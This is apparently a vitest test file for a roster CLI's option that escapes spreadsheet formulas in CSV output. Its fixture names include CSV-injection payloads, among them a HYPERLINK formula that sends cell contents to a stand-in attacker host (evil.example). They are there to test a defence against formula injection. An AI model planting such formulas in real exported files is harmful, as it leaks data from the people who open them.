// --escape-formulas on a OneRoster read: the built CLI against a server on 127.0.0.1 whose records start
// with what a spreadsheet runs (OWASP CSV injection). Without the option the CSV is exact.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formulaSafe, formulaUnescaped } from '../../src/output/csv.js';
import { runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/context.js';
import { type ScriptedServer, startScriptedServer } from '../helpers/scripted-server.js';

const NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+cmd',
  '-2',
  '@SUM(A1)',
  '\tTab',
  '\rCR',
  'Zoë',
  'a=b',
];

let server: ScriptedServer;
beforeAll(async () => {
  server = await startScriptedServer((request) =>
    request.path.endsWith('/token')
      ? { body: { access_token: 'tok-1', token_type: 'bearer', expires_in: 3600 } }
      : { body: { users: NAMES.map((givenName, i) => ({ sourcedId: `s-${i}`, givenName })) } },
  );
});
afterAll(() => server.close());

const roster = (args: string[]) =>
  runCli(['roster', 'students', '--columns', 'sourcedId,givenName', ...args], tempDir(), {
    env: { ROSTER_BASE_URL: server.baseUrl, ROSTER_CLIENT_ID: 'c', ROSTER_CLIENT_SECRET: 'secret-1' },
  });

describe('--escape-formulas', () => {
  it("puts a ' before cells starting with = + - @, a tab or a CR; leaves the others", async () => {
    const result = await roster(['--csv', '--escape-formulas']);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(
      [
        'sourcedId,givenName',
        `s-0,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
        "s-1,'+1+cmd",
        "s-2,'-2",
        "s-3,'@SUM(A1)",
        "s-4,'\tTab",
        `s-5,"'\rCR"`,
        's-6,Zoë',
        's-7,a=b',
        '',
      ].join('\n'),
    );
  });

  it('without it, the CSV holds the exact values', async () => {
    const result = await roster(['--csv']);
    expect(result.code).toBe(0);
    expect(result.stdout.split('\n').slice(1, 5)).toEqual([
      's-0,"=HYPERLINK(""http://evil.example/?""&A1,""x"")"',
      's-1,+1+cmd',
      's-2,-2',
      's-3,@SUM(A1)',
    ]);
  });

  it('goes with --csv only: a usage error, nothing sent', async () => {
    const before = server.requests.length;
    const result = await roster(['--json', '--escape-formulas']);
    expect(result.code).toBe(2);
    expect(result.stderr).toBe('Error: --escape-formulas goes with --csv.\n');
    expect(server.requests.length).toBe(before);
  });

  it('formulaSafe', () => {
    expect(NAMES.map(formulaSafe)).toEqual([
      `'${NAMES[0]}`,
      "'+1+cmd",
      "'-2",
      "'@SUM(A1)",
      "'\tTab",
      "'\rCR",
      'Zoë',
      'a=b',
    ]);
  });

  it('formulaUnescaped gives back exactly what formulaSafe escaped, quotes included', () => {
    const values = [...NAMES, "'+quote@example.org", "''=two", "'plain", "'", "''", '-', "'-"];
    for (const value of values) expect(formulaUnescaped(formulaSafe(value)), value).toBe(value);
    expect(formulaSafe("'+quote@example.org")).toBe("''+quote@example.org");
    expect(formulaSafe("'plain")).toBe("'plain");
  });
});
